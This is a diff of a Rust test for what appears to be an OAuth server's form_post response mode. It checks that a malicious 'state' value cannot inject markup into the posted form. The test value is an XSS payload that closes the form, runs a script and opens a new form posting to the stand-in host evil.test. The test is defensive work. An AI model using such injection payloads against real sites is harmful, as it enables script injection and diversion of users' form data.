@@ -196,7 +196,7 @@ fn nonce_of(seen: &Seen) -> String {
 async fn a_posted_answer_is_a_form_that_nothing_can_be_written_into() {
     let server = Server::with_tenant(DOORS).await;
     let browser = signed_in(&server).await;
-    let state = "\"></form><script>alert(1)</script><form action='https://evil.test/'>&amp;\r\n\u{2028}é";
+    let state = "\"></form><script>alert(1)</script><form action='https://evil.test/'>&amp;\u{2028}é";
     let asked = with(&SHOP, &[("response_mode", "form_post"), ("state", state)]);
     let seen = browser.get(front_door(&asked)).await;
     let answer = Answer::in_form(&seen);
